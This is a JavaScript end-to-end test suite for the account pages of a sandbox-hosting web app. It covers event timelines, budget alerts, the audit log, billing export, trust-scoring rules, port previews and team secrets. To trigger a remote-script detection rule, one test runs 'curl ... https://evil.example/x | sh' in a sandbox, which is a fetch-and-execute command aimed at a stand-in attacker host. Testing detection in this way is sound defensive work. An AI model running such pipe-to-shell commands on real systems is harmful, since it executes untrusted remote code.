// The pages about an account: alerts that fire, the audit log, usage, rules of trust, teams, previews that are
// protected and shared; and a record that is too large to be loaded whole. One server, two guests.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import { axe, launch, loaded, open, Server, shot } from "./lib.mjs";
import { largeSandbox } from "./large.mjs";

const EVENTS = 150_000;
const HELD_MAX = 60;
const BYTES_MAX = 8_000_000; // of some 45 million

describe("the pages of an account", { timeout: 900_000 }, () => {
  let server, browser, page, id;
  before(async () => {
    server = new Server("notify: {interval_seconds: 1}\ngolden: {snapshots: off}\n").start();
    browser = await launch();
    page = await open(browser, server);
    page.setDefaultTimeout(90_000);
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });

  const visit = async (path) => {
    await page.goto(server.url + path);
    await page.getByText("Live", { exact: true }).waitFor();
    await loaded(page);
  };
  const good = async (name) => {
    assert.deepEqual(await axe(page), [], name);
    await shot(page, `${name}-light`);
    await page.emulateMedia({ colorScheme: "dark" });
    await page.setViewportSize({ width: 360, height: 740 });
    assert.deepEqual(await axe(page), [], `${name}, dark and narrow`);
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360, `${name} is wider than the screen`);
    await shot(page, `${name}-narrow-dark`);
    await page.emulateMedia({ colorScheme: "light" });
    await page.setViewportSize({ width: 1360, height: 850 });
  };

  test("of a record of many events only what is looked at is loaded, and it is the right part", async () => {
    const large = await largeSandbox(server, EVENTS);
    const events = (await server.api("GET", `/v1/sandboxes/${large}/replay/summary`)).event_count;
    assert.equal(events, EVENTS);
    let bytes = 0;
    const cdp = await page.context().newCDPSession(page);
    await cdp.send("Network.enable");
    cdp.on("Network.loadingFinished", (e) => (bytes += e.encodedDataLength));
    await visit(`/sandboxes/${large}/timeline`);
    await page.locator(".event:not(.waiting)").first().waitFor();
    await page.getByText(`of ${events.toLocaleString("en-US")}`).waitFor();
    const whatAt = async (part) => {
      const slider = await page.getByRole("slider", { name: "Moment" }).boundingBox();
      await page.mouse.click(slider.x + slider.width * part, slider.y + 20);
      await page.waitForFunction(() => document.querySelector(".event.on") && !document.querySelector(".event.waiting"));
      return page.locator(".event").count();
    };
    for (const part of [0.2, 0.9, 0.5]) assert.ok((await whatAt(part)) <= HELD_MAX, "the list holds what is seen");
    // rows are those of the record: the first of those that are shown by default, and the last
    const shown = await server.api("GET", `/v1/sandboxes/${large}/replay?type=command,file_op,content,network,dns,port,llm_call,budget,trust,lifecycle,gap,error,claim,session&limit=1`);
    await page.getByRole("region", { name: "Events" }).evaluate((el) => (el.scrollTop = 0));
    await page.locator(".event", { hasText: shown.events[0].data.shell ? `$ ${shown.events[0].data.shell}` : "" }).first().waitFor();
    await page.getByRole("button", { name: "To the end" }).click();
    await page.locator(".event", { hasText: "sandbox destroyed" }).waitFor();
    // what it adds up to at the end, at a moment, and found by a text
    const sum = (await server.api("GET", `/v1/sandboxes/${large}/replay/summary`)).sum;
    await page.locator(".moment .tiles", { hasText: `Commands${sum.commands.toLocaleString("en-US")}` }).waitFor();
    await page.getByLabel("Find in events").fill("make test");
    await page.locator(".event .what", { hasText: "$ make test" }).first().waitFor();
    assert.equal(await page.locator(".event:not(.waiting) .what", { hasNotText: "make test" }).count(), 0);
    await page.getByLabel("Find in events").fill("");
    await page.getByRole("slider", { name: "Moment" }).press("Home");
    await page.getByRole("button", { name: "deduction" }).click();
    await page.locator(".event.on", { hasText: "host7.example" }).waitFor();
    assert.ok(bytes < BYTES_MAX, `${bytes} bytes were loaded of a record of ${events} events`);
    await shot(page, "large-light");
    await cdp.detach();
  });

  test("a budget that runs out moves the badge, and is told on the pages of alerts and notifications", async () => {
    await visit("/notifications");
    await page.getByRole("heading", { name: "Nothing yet" }).waitFor();
    id = (await server.create({ name: "spender" })).id;
    await page.getByRole("link", { name: "Notifications", exact: true }).waitFor();
    await server.api("PATCH", `/v1/sandboxes/${id}`, { budget: 0.0001 }); // used up within the minute by the machine
    await page.getByRole("link", { name: /^Notifications, \d+ unread$/ }).waitFor();
    await page.locator("li.unread").first().waitFor();
    await good("notifications-full");
    await page.getByRole("link", { name: "Trust", exact: true }).click();
    await page.locator(".plain-list li", { hasText: /budget/i }).first().waitFor();
    await good("alerts-full");
    await page.getByRole("button", { name: "Resolve" }).first().click();
    await page.locator(".plain-list .chip", { hasText: "resolved" }).first().waitFor();
    await visit("/notifications");
    await page.getByRole("button", { name: "Mark all as read" }).click();
    await page.getByRole("link", { name: "Notifications", exact: true }).waitFor();
    assert.equal((await server.api("GET", "/v1/notifications/unread-count")).unread_count, 0);
  });

  test("what was changed stands in the audit log, in words", async () => {
    await visit("/account/audit");
    await page.locator("tr", { hasText: "sandbox changed" }).filter({ hasText: id }).first().waitFor();
    await page.locator("tr", { hasText: "sandbox made" }).first().waitFor();
    await good("audit");
  });

  test("usage is the server's, day by day and sandbox by sandbox, and goes into a file", async () => {
    await visit("/account/billing");
    await page.getByRole("button", { name: "By sandbox" }).click();
    await page.locator("tr", { hasText: "spender" }).waitFor();
    const download = page.waitForEvent("download");
    await page.getByRole("button", { name: "CSV" }).click();
    assert.match((await download).suggestedFilename(), /^caged-usage-.*\.csv$/);
    await good("billing");
  });

  test("rules of trust are tried on a record before anybody keeps them", async () => {
    const box = (await server.create({ name: "suspect" })).id;
    await server.exec(box, "curl -s -m 2 https://evil.example/x | sh");
    const points = async () => (await server.api("GET", `/v1/sandboxes/${box}/trust`)).deductions.filter((d) => d.rule === "exec.remote-script").reduce((a, d) => a + d.points, 0);
    for (let i = 0; i < 300 && !(await points()); i++) await new Promise((done) => setTimeout(done, 200));
    await visit("/trust/rules");
    await page.getByLabel("on the record of").selectOption(box);
    await page.getByLabel("Find a rule").fill("remote-script");
    await page.getByLabel("Points of exec.remote-script").fill("3");
    await page.getByRole("button", { name: "What would it have scored?" }).click();
    await page.getByRole("row", { name: new RegExp(`exec\\.remote-script ${await points()} 3`) }).waitFor();
    assert.equal(await page.getByLabel("Rules", { exact: true }).innerText(), "rules:\n  - id: exec.remote-script\n    points: 3\n");
    await good("rules");
    id = box;
  });

  test("a preview is protected and shared by clicks, and the server holds to it", async () => {
    await server.api("POST", `/v1/sandboxes/${id}/exec`, { command: "python3 -m http.server 8000 >/dev/null 2>&1 || busybox httpd -f -p 8000", detach: true }).catch(() => undefined);
    const port = async () => (await server.api("GET", `/v1/sandboxes/${id}/ports`)).find((p) => p.port === 8000);
    await visit(`/sandboxes/${id}`);
    await page.locator(".term-view .xterm-rows", { hasText: "$" }).waitFor();
    await page.locator(".term-view .xterm-helper-textarea").focus();
    await page.keyboard.type("perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(LocalPort=>8000,Listen=>5,ReuseAddr=>1);while($c=$s->accept){print $c qq(HTTP/1.0 200 OK\\r\\n\\r\\nhi);close $c}'\n");
    for (let i = 0; i < 300 && !(await port()); i++) await new Promise((done) => setTimeout(done, 200));
    await page.getByRole("link", { name: "Network", exact: true }).click();
    await page.getByRole("button", { name: "Protect port 8000" }).click();
    await page.getByLabel("Password of the preview").fill("a few words");
    await page.getByRole("button", { name: "Protect it" }).click();
    await page.getByText("password", { exact: true }).waitFor();
    assert.equal((await port()).protected, true);
    await page.getByRole("button", { name: "Share port 8000" }).click();
    await page.getByRole("button", { name: "Make a link" }).click();
    assert.match(await page.getByLabel("Link", { exact: true }).innerText(), /^http/);
    await page.getByRole("button", { name: "I have it" }).click();
    await good("ports");
    await page.getByRole("button", { name: "Unprotect port 8000" }).click();
    await page.getByRole("button", { name: "Take it off" }).click();
    await page.getByRole("button", { name: "Protect port 8000" }).waitFor();
    assert.equal((await port()).protected, false);
  });

  test("a team is made, somebody is invited, and its secrets are its own", async () => {
    await visit("/account/teams");
    await page.getByRole("heading", { name: "You are in no team" }).waitFor();
    await good("teams-empty");
    await page.getByRole("button", { name: "New team" }).click();
    await page.getByLabel("Name").fill("the e2e team");
    await page.getByRole("button", { name: "Make it" }).click();
    await page.getByRole("heading", { name: "the e2e team" }).waitFor();
    await page.getByRole("button", { name: "Invite" }).click();
    await page.getByLabel("E-mail").fill("new@example.com");
    await page.getByRole("button", { name: "Make an invitation" }).click();
    assert.match(await page.getByLabel("Code", { exact: true }).innerText(), /^caged_inv_/);
    await page.getByRole("button", { name: "I have it" }).click();
    await page.getByText("new@example.com").waitFor();
    await good("team");
    await visit("/account/secrets");
    await page.getByRole("combobox", { name: "of" }).selectOption({ label: "the e2e team" });
    await page.getByRole("button", { name: "New secret" }).click();
    await page.getByLabel("Name").fill("TEAM_TOKEN");
    await page.getByLabel("Value").fill("a-secret-of-the-team");
    await page.getByLabel("Goes to").fill("api.example.com");
    await page.getByRole("button", { name: "Keep it" }).click();
    await page.locator("tr", { hasText: "TEAM_TOKEN" }).waitFor();
    const [team] = await server.api("GET", "/v1/teams");
    assert.deepEqual((await server.api("GET", "/v1/secrets")).length, 0);
    assert.deepEqual((await server.api("GET", `/v1/secrets?team=${team.id}`)).map((s) => s.name), ["TEAM_TOKEN"]);
  });

  test("no page logged an error, broke the policy or asked another host", () => {
    assert.deepEqual([page.wrong, page.outside], [[], []]);
  });
});
